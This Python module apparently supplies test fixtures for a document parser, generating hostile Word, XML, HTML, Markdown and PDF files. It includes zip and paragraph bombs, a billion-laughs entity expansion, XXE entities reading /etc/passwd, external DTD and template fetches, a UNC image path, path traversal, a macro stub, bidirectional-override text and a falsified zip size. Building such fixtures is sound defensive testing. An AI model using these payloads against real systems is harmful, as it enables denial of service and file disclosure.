"""Files that nobody honest sends, made here: each a name and the bytes."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Mapping

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MACROS = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_FIRST = f'<Relationship Id="a" Type="{OFFICE}/officeDocument" Target="w/d.xml"/>'
MAIN = f'<Relationships xmlns="{PACKAGE}">{_FIRST}</Relationships>'


def word(body: str = "", related: str = "", more: Mapping[str, bytes] | None = None) -> bytes:
    """Returns a small Word file with these paragraphs, relationships and parts."""
    text = f"<w:p><w:r><w:t>1. The Parties shall act.</w:t></w:r></w:p>{body}"
    parts = {
        "_rels/.rels": MAIN.encode(),
        "w/d.xml": f"<w:document {WORD}><w:body>{text}</w:body></w:document>".encode(),
        "w/_rels/d.xml.rels": f'<Relationships xmlns="{PACKAGE}">{related}</Relationships>'.encode(),
        **(more or {}),
    }
    return packed(parts.items())


def packed(parts: object) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:  # type: ignore[attr-defined]
            archive.writestr(name, content)
    return data.getvalue()


def related(kind: str, target: str, mode: str = "") -> str:
    outside = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r1" Type="{kind}" Target="{target}"{outside}/>'


def files() -> Iterator[tuple[str, bytes]]:
    """Yields every hostile file there is here."""
    yield (
        "bomb.docx",
        word(more={"w/styles.xml": b" " * 300_000_000}, related=related(f"{OFFICE}/styles", "styles.xml")),
    )
    yield "bomb-of-paragraphs.docx", word("<w:p/>" * 3_000_000)
    yield "twice.docx", _twice()
    yield (
        "doctype.docx",
        packed(
            [("_rels/.rels", MAIN), ("w/d.xml", f'<!DOCTYPE x [<!ENTITY a "b">]><w:document {WORD}>&a;</w:document>')]
        ),
    )
    yield "laughs.xml", _laughs()
    yield "outside.xml", b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://elsewhere.example/x.dtd"><akomaNtoso/>'
    yield "file.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><akomaNtoso>&a;</akomaNtoso>'
    yield "template.docx", word(related=related(f"{OFFICE}/attachedTemplate", "http://elsewhere.example/t", "External"))
    yield "picture.docx", word(related=related(f"{OFFICE}/image", "\\\\elsewhere\\share\\x.png", "External"))
    yield "climbs.docx", word(related=related(f"{OFFICE}/styles", "../../../etc/passwd"))
    yield "macros.docm", word(related=related(MACROS, "vbaProject.bin"), more={"w/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "deep.docx", word("<w:p>" * 5_000 + "</w:p>" * 5_000)
    yield "deep.html", b"<!DOCTYPE html>" + b"<div>" * 200_000
    yield "deep.md", b"{++x++}\n" + b">" * 20_000 + b" x"
    yield "override.txt", "1. Pay \u202e000 1 euros.".encode()
    yield "override.docx", word("<w:p><w:r><w:t>2. Pay \u202e000 1 euros.</w:t></w:r></w:p>")
    yield "hidden.md", "# 1. Aims\n\nThe Parties shall n\u200bot act.\n".encode()
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(10_000)
    yield "program.docx", b"\x7fELF" + bytes(10_000)
    yield (
        "loop.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj",
    )
    yield "nothing.docx", b""
    yield "declared.docx", _declared()


def _twice() -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        text = f"<w:document {WORD}><w:body><w:p/></w:body></w:document>"
        return packed([("_rels/.rels", MAIN), ("w/d.xml", text), ("w/d.xml", text)])


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><akomaNtoso>&a9;</akomaNtoso>'.encode()


def _declared() -> bytes:
    """Returns a zip whose directory says that a part has ten gigabytes."""
    data = bytearray(word())
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = (0xFFFFFFFE).to_bytes(4, "little")
    return bytes(data)
